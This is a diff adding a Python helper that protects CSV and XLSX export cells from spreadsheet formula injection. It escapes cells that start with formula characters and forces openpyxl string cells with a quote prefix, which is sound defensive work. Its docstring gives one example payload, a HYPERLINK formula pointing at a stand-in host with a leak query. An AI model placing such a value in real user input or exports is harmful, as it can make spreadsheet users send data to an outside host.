@@ -1,0 +1,41 @@
+"""Every text cell of every export goes through here, so no user input ever runs as a formula.
+
+A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` as a formula, and some also after a
+leading tab or carriage return (OWASP "CSV injection"): a visitor named
+`=HYPERLINK("http://x.example/?leak","click")` would become a live link in the Kasubag's workbook.
+CSV has no cell types, so such a cell gets a leading apostrophe (Excel's own "this is text" mark);
+XLSX has them, so the cell is written as a string with Excel's quote-prefix style and keeps its text.
+"""
+from __future__ import annotations
+
+import re
+
+from openpyxl.cell.cell import Cell
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# A plain number such as -5 or +62 is not a formula and is left as it is.
+PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
+# openpyxl refuses these control characters; a pasted letter number must not break the export.
+ILLEGAL = {chr(c) for c in range(32)} - {"\t", "\n", "\r"}
+
+
+def looks_like_formula(text: str) -> bool:
+    return text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text)
+
+
+def csv_text(value: object) -> str:
+    """A CSV cell that a spreadsheet shows as text, never evaluates."""
+    text = "" if value is None else str(value)
+    return "'" + text if looks_like_formula(text) else text
+
+
+def set_xlsx_text(cell: Cell, value: object) -> Cell:
+    """Write `value` into an openpyxl cell as a string cell, never as a formula."""
+    text = "".join(ch for ch in ("" if value is None else str(value)) if ch not in ILLEGAL)
+    cell.value = text
+    if cell.data_type != "s" or looks_like_formula(text):
+        # openpyxl turns any string starting with "=" into a formula: force the string type, and
+        # set quotePrefix so Excel keeps it text even after someone edits the cell.
+        cell.data_type = "s"
+        cell.quotePrefix = True
+    return cell
